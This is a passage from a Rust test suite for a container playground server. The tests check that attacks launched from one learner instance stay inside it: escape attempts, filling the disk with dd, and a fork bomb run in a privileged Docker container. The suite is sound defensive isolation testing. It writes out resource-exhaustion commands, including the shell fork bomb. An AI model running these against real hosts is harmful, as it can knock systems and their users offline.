    let (root_dev, major, minor) = host_root_device();
    let host_v4 = host_ipv4();
    let data_dir = server.data_dir.path().to_string_lossy().into_owned();
    let host_init = std::fs::read_to_string("/proc/1/comm")
        .unwrap()
        .trim()
        .to_string();
    let canary = PathBuf::from(format!("/tmp/abuse-nesting-canary-{}", std::process::id()));
    let _ = std::fs::remove_file(&canary);
    let ctx = Ctx {
        values: vec![
            (
                "HOSTDEVNAME",
                root_dev.rsplit('/').next().unwrap().to_string(),
            ),
            ("HOSTDEV", root_dev.clone()),
            ("HOSTMAJ", major),
            ("HOSTMIN", minor),
            ("HOSTV4", host_v4.join(" ")),
            ("HOSTINIT", host_init),
            ("HOST_ANSWER", HOST_ANSWER.into()),
            ("LOPORT", lo_port.to_string()),
            ("ANYPORT", any_port.to_string()),
            ("UDPPORT", udp_port.to_string()),
            ("BRIDGE_LL", bridge_link_local(&sid)),
            ("SERVERPID", server.pid().to_string()),
            (
                "DATADIRBASE",
                Path::new(&data_dir)
                    .file_name()
                    .unwrap()
                    .to_string_lossy()
                    .into_owned(),
            ),
            ("DATADIR", data_dir.clone()),
            ("VICTIM", victim_ip.clone()),
            ("CANARY", canary.display().to_string()),
            ("MARK", MARK.into()),
        ],
        canary: canary.clone(),
        instance_cgroup: format!("{}-{attacker}", sid.replace('-', "")),
        lo_hits,
        any_hits,
        udp_hits,
        root_dev,
    };
    assert!(
        ctx.host_breaches().is_empty(),
        "before any attempt: {:?}",
        ctx.host_breaches()
    );
    let before = ctx.host_view();
    assert!(
        before.keys().any(|k| k.contains(&ctx.instance_cgroup)),
        "the instance's host-side cgroup files are not found: {before:?}"
    );

    let list = attempts();
    assert!(list.len() >= 15, "only {} attempts", list.len());
    let mut failures = Vec::new();
    for (n, attempt) in list.iter().enumerate() {
        let script = wrap(attempt.place, n, &ctx.fill(&attempt.script));
        let started = Instant::now();
        let out = server.exec(&sid, &attacker, &script).await;
        println!(
            "--- {n:>2} [{:?}] {} (exit {}, {:.1}s)\n{}{}",
            attempt.place,
            attempt.what,
            out.exit_code,
            started.elapsed().as_secs_f32(),
            out.stdout,
            out.stderr
        );
        if !out.stdout.starts_with("RAN") {
            failures.push(format!("{}: did not run: {out:?}", attempt.what));
        }
        for line in out.stdout.lines().filter(|l| l.contains("ESCAPED")) {
            failures.push(format!("{}: inside: {line}", attempt.what));
        }
        // The host's side, after every attempt.
        let after = ctx.host_view();
        for (key, value) in &before {
            if after.get(key) != Some(value) {
                failures.push(format!(
                    "{}: on the host, {key} changed from {value:?} to {:?}",
                    attempt.what,
                    after.get(key)
                ));
                if key.ends_with("core_pattern") {
                    let _ = std::fs::write(key, value);
                }
            }
        }
        for breach in ctx.host_breaches() {
            failures.push(format!("{}: {breach}", attempt.what));
        }
        let started = Instant::now();
        assert_eq!(server.get("/healthz").await.status(), 200);
        assert!(
            started.elapsed() < Duration::from_secs(5),
            "the server is slow after {}",
            attempt.what
        );
    }

    // The neighbours: the other session's victim saw none of the attack
    // frames while the attacker's own neighbour, on the same bridge, did
    // (so the frames were sent and the capture works).
    tokio::time::sleep(Duration::from_millis(500)).await;
    let seen_by_neighbour = captured(&server, &sid, &neighbour).await;
    let seen_by_victim = captured(&server, &other_sid, &victim).await;
    println!("attack frames seen: neighbour on the same bridge {seen_by_neighbour}, victim in another session {seen_by_victim}");
    assert!(
        seen_by_neighbour > 0,
        "the attack frames were never sent (the control saw none)"
    );
    if seen_by_victim > 0 {
        failures.push(format!(
            "the other session's instance received {seen_by_victim} attack frame(s)"
        ));
    }
    for (s, name) in [(&sid, &neighbour), (&other_sid, &victim)] {
        let out = server
            .exec(
                s,
                name,
                &format!("cat /root/keep; hostname; grep -c {MARK} /proc/self/mountinfo"),
            )
            .await;
        assert_eq!(out.stdout, format!("safe\n{name}\n0\n"), "{name}: {out:?}");
    }
    let out = server.exec(&sid, &attacker, "echo alive; id -un").await;
    assert_eq!(out.stdout, "alive\nroot\n");
    assert!(!canary.exists());

    assert!(
        failures.is_empty(),
        "{} breach(es):\n{}",
        failures.len(),
        failures.join("\n")
    );
    end_session(&server, &sid).await;
    end_session(&server, &other_sid).await;
    server.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn filling_var_lib_docker_stops_at_the_instance_disk() {
    let _alone = ONE_AT_A_TIME.lock().await;
    let server = TestServer::start_nesting(&LIMITS).await;
    let sid = server.create_session().await.id;
    let filler = server.add_instance(&sid).await;
    let neighbour = server.add_instance(&sid).await;
    let data_dir = server.data_dir.path().to_path_buf();
    let allocated_before = allocated_bytes(&data_dir);
    let free_before = free_bytes(&data_dir);

    let out = server
        .run(
            &sid,
            &filler,
            "docker pull nginx >/dev/null 2>&1; docker pull debian:bookworm-slim 2>&1 | tail -1
             docker run --rm -v fill:/data busybox dd if=/dev/zero of=/data/big bs=1M count=400 2>&1 | grep -o 'No space left on device' | head -1
             docker run --rm busybox dd if=/dev/zero of=/big bs=1M count=400 2>&1 | grep -o 'No space left on device' | head -1
             mkdir -p /b && cd /b && printf 'FROM debian:bookworm-slim\\nRUN dd if=/dev/zero of=/big bs=1M count=400\\n' > Dockerfile
             docker build -t big . 2>&1 | grep -o 'No space left on device' | head -1
             dd if=/dev/zero of=/var/lib/docker/direct bs=1M count=400 2>&1 | grep -o 'No space left on device' | head -1
             df -m /var/lib/docker | tail -1",
        )
        .await;
    assert_eq!(
        out.stdout.matches("No space left on device").count(),
        4,
        "every way to write past the disk must end with ENOSPC: {out:?}"
    );

    // The host lost no more than the instance's disk.
    let grown = allocated_bytes(&data_dir).saturating_sub(allocated_before);
    assert!(
        grown <= (DISK_MIB + 16) << 20,
        "the data directory grew by {} MiB for a {DISK_MIB} MiB disk",
        grown >> 20
    );
    let lost = free_before.saturating_sub(free_bytes(&data_dir));
    assert!(
        lost <= (DISK_MIB + 64) << 20,
        "the host lost {} MiB of free space to a {DISK_MIB} MiB disk",
        lost >> 20
    );
    let out = server
        .exec(
            &sid,
            &neighbour,
            "echo written > /root/ok && cat /root/ok && docker run --rm busybox echo container-ok",
        )
        .await;
    assert_eq!(
        out.stdout, "written\ncontainer-ok\n",
        "the neighbour cannot write: {out:?}"
    );
    // The filler itself recovers once it deletes what it wrote. dockerd
    // sometimes fails the first container after a full disk (a layer it
    // left half made: "chown .../work/work: no such file or directory"),
    // so a learner's second try counts.
    let out = server
        .exec(
            &sid,
            &filler,
            "rm -f /var/lib/docker/direct; docker system prune -af --volumes >/dev/null; \
              for try in 1 2 3; do docker run --rm busybox echo recovered && break; sleep 1; done",
        )
        .await;
    assert_eq!(out.stdout, "recovered\n", "{out:?}");

    end_session(&server, &sid).await;
    server.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_fork_bomb_in_a_privileged_container_stops_at_the_instance_pids_limit() {
    let _alone = ONE_AT_A_TIME.lock().await;
    let server = TestServer::start_nesting(&LIMITS).await;
    let sid = server.create_session().await.id;
    let bomber = server.add_instance(&sid).await;
    let neighbour = server.add_instance(&sid).await;
    let out = server
        .run(
            &sid,
            &bomber,
            "docker run -d --privileged --name bomb busybox sh -c 'b() { b | b & }; b; sleep 120' && sleep 5 && echo started",
        )
        .await;
    assert!(
        out.stdout.contains("started") || out.exit_code != 0,
        "{out:?}"
    );

    let cgroup = format!("{}-{bomber}", sid.replace('-', ""));
    let current: u64 = std::fs::read_to_string(format!(
        "/sys/fs/cgroup/pids/playground/{cgroup}/pids.current"
    ))
    .unwrap()
    .trim()
    .parse()
    .unwrap();
    println!("processes in the bombing instance: {current}");
    assert!(current <= PIDS, "the pids limit broke: {current}");
    // The host and the neighbour stay responsive.
    for _ in 0..3 {
        let started = Instant::now();
        assert_eq!(server.get("/healthz").await.status(), 200);
        let out = server.exec(&sid, &neighbour, "echo still-here").await;
        assert_eq!(out.stdout, "still-here\n");
        assert!(
            started.elapsed() < Duration::from_secs(5),
            "took {:?}",
            started.elapsed()
        );
        let started = Instant::now();
        let status = std::process::Command::new("true").status().unwrap();
        assert!(status.success() && started.elapsed() < Duration::from_secs(2));
    }
    // The way out is deleting the instance: nothing of it stays.
    server.delete_instance(&sid, &bomber).await;
    end_session(&server, &sid).await;
    server.stop().await;
}

async fn end_session(server: &TestServer, sid: &str) {
    server.delete_session(sid).await;
    let left = wait_until_clean(sid, server.data_dir.path(), Duration::from_secs(30)).await;
    assert!(left.is_empty(), "left behind: {left:?}");
    assert!(leftovers(sid, server.data_dir.path()).is_empty());
}

/// Bytes the files under `dir` take on disk (sparse files count what they hold).
fn allocated_bytes(dir: &Path) -> u64 {
    use std::os::unix::fs::MetadataExt;
    let mut total = 0;
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&d) else {
            continue;
        };
        for e in entries.flatten() {
            let Ok(meta) = e.path().symlink_metadata() else {
                continue;
            };
            if meta.is_dir() {
                stack.push(e.path());
            } else {
                total += meta.blocks() * 512;
            }
        }
    }
    total
}

fn free_bytes(path: &Path) -> u64 {
    let c = std::ffi::CString::new(path.to_string_lossy().as_bytes()).unwrap();
    // SAFETY: statvfs fills the zeroed struct we own; the path is a valid C string.
    unsafe {
        let mut s: libc::statvfs = std::mem::zeroed();
        assert_eq!(libc::statvfs(c.as_ptr(), &mut s), 0);
        s.f_bavail * s.f_frsize
    }
}
